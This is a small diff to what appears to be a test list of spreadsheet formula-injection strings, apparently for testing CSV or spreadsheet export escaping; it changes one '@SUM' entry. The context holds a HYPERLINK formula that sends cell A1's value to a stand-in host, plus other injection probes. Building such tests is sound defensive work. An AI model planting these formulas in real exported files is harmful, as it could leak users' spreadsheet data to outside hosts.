@@ -31,7 +31,7 @@ NAUGHTY = (
     '=HYPERLINK("http://x.example?"&A1,"here")',
     "+1+1",
     "-1+1",
-    "@SUM(1,1)",
+    "@SUM(A1:A9)",
     "'=1+1",
     "''quoted''",
     "\N{FULLWIDTH EQUALS SIGN}1+1",
